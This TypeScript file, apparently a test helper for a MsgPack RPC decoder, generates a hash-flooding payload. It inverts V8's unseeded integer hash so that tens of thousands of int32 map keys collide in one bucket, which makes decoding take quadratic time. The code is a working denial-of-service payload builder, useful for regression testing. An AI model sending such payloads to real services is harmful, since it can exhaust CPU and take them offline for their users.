// A MsgPack request whose argument is a Map of int32 keys that all share a
// bucket of V8's hash table: V8 hashes them with no seed
// (ComputeUnseededHash), so the keys follow from the hashes wanted by
// running that hash backwards. Built as a Map, they took time quadratic
// in their count (65 536: 7.8 s of one decode, 2026-12-08).

/** The inverse of an odd `a` modulo 2^32 (Newton's iteration). */
function inverse(a: number): number {
  let x = a;
  for (let i = 0; i < 5; i++) x = Math.imul(x, 2 - Math.imul(a, x));
  return x >>> 0;
}

const INVERSE_32767 = inverse(32767);
const INVERSE_5 = inverse(5);
const INVERSE_2057 = inverse(2057);

/** The int32 that V8's ComputeUnseededHash maps to the 32 bits `hash`. */
function unhash(hash: number): number {
  let x = hash >>> 0;
  x = (x ^ (x >>> 16)) >>> 0; // h ^= h >>> 16
  x = Math.imul(x, INVERSE_2057) >>> 0; // h *= 2057
  let y = x;
  for (let i = 0; i < 8; i++) y = (x ^ (y >>> 4)) >>> 0; // h ^= h >>> 4
  x = Math.imul(y, INVERSE_5) >>> 0; // h += h << 2
  x = (x ^ (x >>> 12) ^ (x >>> 24)) >>> 0; // h ^= h >>> 12
  return Math.imul((x + 1) >>> 0, INVERSE_32767) | 0; // h = ~h + (h << 15)
}

/**
 * The body of `[0, 0, ["echo", [map], {}]]` with `count` (up to 65 536)
 * int32 keys whose hashes share their low 16 bits, each mapped to 0.
 */
export function collidingMapPayload(count: number): Uint8Array {
  const head = [0x93, 0x00, 0x00, 0x93, 0xa4, 0x65, 0x63, 0x68, 0x6f, 0x91];
  const out = new Uint8Array(head.length + 5 + count * 6 + 1);
  const view = new DataView(out.buffer);
  out.set(head);
  let at = head.length;
  out[at] = 0xdf; // map32
  view.setUint32(at + 1, count);
  at += 5;
  for (let i = 0; i < count; i++) {
    out[at] = 0xd2; // int32
    view.setInt32(at + 1, unhash((i << 16) | 0x1234));
    out[at + 5] = 0x00;
    at += 6;
  }
  out[at] = 0x80; // kwargs {}
  return out;
}
